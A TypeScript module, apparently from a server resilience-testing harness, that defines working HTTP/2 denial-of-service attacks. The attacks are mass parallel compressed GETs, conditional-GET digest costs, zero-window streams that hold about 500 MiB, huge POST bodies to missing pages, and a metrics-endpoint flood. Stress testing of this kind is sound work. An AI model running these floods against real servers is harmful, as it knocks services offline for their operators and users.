/** Attacks on what is no call: the page, and the operators' port. */
import type { Attack, AttackGroup, Target } from "../attack.ts";
import { type Fields, getBlock, headers, join, Setting } from "../frames.ts";
import { ask, atRate, Http2Wire, isOver, onEach, sleep, waitForEnd, Wire } from "../sockets.ts";

/** The largest file of the page. */
const PAGE_FILE = "/dist/hash_worker.js";
const ACCEPT: Fields = [["accept-encoding", "gzip"]];

/** Fetches the page's largest file, so many times at once and again. */
async function fetchAgain(target: Target, atOnce: number, fields: Fields) {
  const http2 = await Http2Wire.connect(target);
  while (!isOver(target) && !http2.isClosed) {
    const before = http2.ended.size;
    const gets = Array.from(
      { length: atOnce },
      () => headers(http2.takeStreamId(), getBlock(PAGE_FILE, fields), { endStream: true }),
    );
    await http2.wire.send(join(...gets));
    while (http2.ended.size < before + atOnce && performance.now() < target.endMs && !http2.isClosed) {
      await sleep(2);
    }
  }
  return { notes: [`${http2.ended.size} responses`] };
}

export const site: AttackGroup = {
  name: "site",
  attacks: [
    {
      name: "page-compressed",
      title: "128 GETs at once of a script of the page, compressed: each one costs what compressing costs",
      run: (target) => fetchAgain(target, 128, ACCEPT),
    },
    {
      name: "page-validated",
      title: "GETs that ask whether a script has changed: each one costs a digest of it",
      run: (target) => fetchAgain(target, 128, [["if-none-match", '"x"']]),
    },
    {
      name: "page-not-taken",
      title: "128 GETs of a script on each of 20 connections, with a window of 0: 500 MiB (B.6)",
      run: async (target) => {
        await onEach(20, async () => {
          const options = { takesResponses: false, settings: [[Setting.initialWindowSize, 0]] as const };
          const http2 = await Http2Wire.connect(target, options);
          const gets = Array.from(
            { length: 128 },
            () => headers(http2.takeStreamId(), getBlock(PAGE_FILE), { endStream: true }),
          );
          await http2.wire.send(join(...gets));
        });
        await waitForEnd(target);
      },
    },
    {
      name: "page-content",
      title: "Requests with content for pages that are not there, by 50 connections",
      run: async (target) => {
        await onEach(50, async () => {
          const wire = await Wire.connect(target);
          wire.read();
          await wire.send("POST /no/such/page HTTP/1.1\r\nhost: localhost\r\ncontent-length: 100000000\r\n\r\n");
          await wire.flood(target, "x".repeat(16_384));
        });
      },
    },
    {
      name: "admin-flood",
      title: "The metrics, asked for 100 times a second: what they cost is the server's",
      run: async (target) => {
        const admin = { ...target, port: target.adminPort!, greeting: "" };
        const count = await atRate(target, 100, () => {
          ask(admin, "GET /metrics HTTP/1.1\r\nhost: localhost\r\nconnection: close\r\n\r\n").catch(() => {});
        });
        return { notes: [`${count} requests`] };
      },
    },
  ] satisfies readonly Attack[],
};
